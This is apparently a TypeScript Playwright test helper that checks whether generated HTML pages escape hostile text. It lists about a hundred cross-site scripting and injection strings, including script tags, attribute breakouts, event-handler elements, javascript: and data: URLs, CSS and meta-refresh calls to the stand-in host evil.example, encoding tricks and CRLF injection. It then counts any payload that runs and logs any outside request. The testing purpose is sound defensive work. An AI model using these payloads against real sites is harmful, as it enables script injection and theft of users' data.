// Texts that try to run in a page which shows them, and a page that counts whether one did. For every HTML that we write.

import { writeFileSync } from 'node:fs'
import { pathToFileURL } from 'node:url'
import type { Browser, Page } from 'playwright-core'

/** What an attack does where it runs: a mark on the window. Others open a dialog or ask for something of this host. */
const run = 'top.ran=(top.ran||0)+1'
const host = 'evil.example'

/** One text an attack; each does something that `openHostile` counts. Names, addresses, headers and bodies can all be made of them. */
export const attacks: readonly string[] = [
  // Elements, in the letter cases and spellings that filters forget.
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script/x>${run}</script>`,
  `<script src=//${host}/a.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>import('https://${host}/m.js')</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `\u0000<scr\u0000ipt>${run}</scr\u0000ipt>`,
  '<script>alert(1)</script>',
  // Out of an element that is open.
  `</script><script>${run}</script>`,
  `</style><img src=x onerror="${run}">`,
  `</title></textarea></noscript></template></select></xmp><script>${run}</script>`,
  `</pre></details></article></main><iframe srcdoc="<script>${run}</script>"></iframe>`,
  `--><script>${run}</script><!--`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `]]><script>${run}</script>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  // Out of an attribute.
  `"><svg onload="${run}">`,
  `'><svg onload='${run}'>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `\` onmouseover=${run} x=\``,
  ` onclick=${run} `,
  `"onpointerenter="${run}`,
  `x" style="background:url(https://${host}/c)" y="`,
  `"/><script>${run}</script>`,
  // Elements that run without a script.
  `<img src=x onerror=${run}>`,
  `<img src=x:x onerror\u000c=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${run}"></b>`,
  `<xss contenteditable autofocus tabindex=1 onfocusin=${run}>x</xss>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  // Addresses.
  `javascript:${run}`,
  `JaVaScRiPt:${run}//https://acme.example/`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://acme.example/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `//${host}/`,
  `<a href="javascript:${run}" id=findings>x</a>`,
  // What is fetched, sent or gone to without a script.
  `<base href="https://${host}/">`,
  `<link rel=stylesheet href=https://${host}/s.css>`,
  `<link rel=preconnect href=https://${host}><link rel=dns-prefetch href=//${host}>`,
  `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline' 'unsafe-eval'">`,
  `<img src=https://${host}/p.png>`,
  `<form action=https://${host}/ id=filter><button>x</button></form>`,
  `<form><input name=topic><input name=level><input name=elements></form>`,
  `<a id=filter><a id=filter name=elements>x</a>`,
  `<style>*{background:url(https://${host}/b)}</style>`,
  `<style>@import 'https://${host}/i.css';</style>`,
  `}</style><style>*{background:url(//${host}/x)}`,
  `red;background:url(https://${host}/y)`,
  `expression(${run})`,
  // What is markup only to someone who decodes twice, or to a template.
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cimg src=x onerror=${run}\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\${${run}}{{constructor.constructor('${run}')()}}<%= ${run} %>#{${run}}`,
  // Line ends and marks that a script, an attribute or a reader takes otherwise.
  `\u2028${run}\u2029//`,
  `'-(${run})-'`,
  `\\';${run};//`,
  `";${run};"`,
  `\`\${${run}}\``,
  `*/${run}/*`,
  `\u202e>tpircs/<${run}>tpircs<`,
  `a\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  `__proto__`,
  `constructor`,
]

/** What is seen of a page on which nothing must happen. */
export interface HostilePage {
  readonly page: Page
  /** How many attacks ran, by their mark. */
  readonly ran: () => Promise<number>
  /** Dialogs, requests for anything but the file, errors of scripts, refusals of the policy, and pages gone to. */
  readonly troubles: readonly string[]
}

/**
 * Opens a page of ours that holds attacks, from this file, with the network watched. `policy: 'removed'` takes its
 * Content-Security-Policy away first: then escaping alone stands between an attack and the reader.
 */
export async function openHostile(
  browser: Browser,
  { html, file, policy }: { readonly html: string; readonly file: string; readonly policy: 'kept' | 'removed' },
): Promise<HostilePage> {
  const own = /<meta http-equiv="Content-Security-Policy"[^>]*>/
  if (!own.test(html)) throw new Error('the page has no policy')
  writeFileSync(file, policy === 'kept' ? html : html.replace(own, ''))
  const context = await browser.newContext()
  const troubles: string[] = []
  const url = pathToFileURL(file).href
  await context.route('**/*', route => {
    if (route.request().url() === url) return route.continue()
    troubles.push(`request: ${route.request().url().slice(0, 200)}`)
    return route.abort()
  })
  const page = await context.newPage()
  page.on('console', message => troubles.push(`console ${message.type()}: ${message.text().slice(0, 200)}`))
  page.on('pageerror', error => troubles.push(`script: ${error.message}`))
  page.on('dialog', dialog => {
    troubles.push(`dialog: ${dialog.message()}`)
    return dialog.dismiss()
  })
  page.on('framenavigated', frame => {
    if (!frame.url().startsWith(url)) troubles.push(`gone to: ${frame.url().slice(0, 200)}`)
  })
  await page.goto(url)
  return { page, troubles, ran: () => page.evaluate<number>('window.ran || 0') }
}

/** Opens all that is closed and gives every link and control of the page the events that an attack waits for. */
export async function provoke(page: Page): Promise<void> {
  await page.evaluate(`(() => {
    for (const one of document.querySelectorAll('details')) one.open = true
    for (const one of document.querySelectorAll('a, button, input, select, summary, pre, [tabindex], svg, mark')) {
      for (const name of ['pointerenter', 'mouseover', 'focus', 'focusin', 'animationstart', 'toggle', 'load', 'error'])
        one.dispatchEvent(new Event(name, { bubbles: true }))
      if (one.localName === 'a' && one.getAttribute('href')?.startsWith('#') !== true) continue
      if (one.localName === 'a' || one.localName === 'button') one.click()
    }
  })()`)
  // What waits for a timer or for the next picture has had its turn.
  await page.evaluate('new Promise(done => requestAnimationFrame(() => setTimeout(done, 100)))')
}

/** Addresses on the page that a click would follow and that are none of the page itself or of https. */
export function strangeAddresses(page: Page): Promise<readonly string[]> {
  return page.evaluate<string[]>(
    `[...document.querySelectorAll('[href], [src], [action], [formaction], [data], [srcset], [ping]')]
      .filter(one => one.localName !== 'a' || !/^(#|https:\\/\\/)/.test(one.getAttribute('href')))
      .map(one => one.outerHTML.slice(0, 200))`,
  )
}
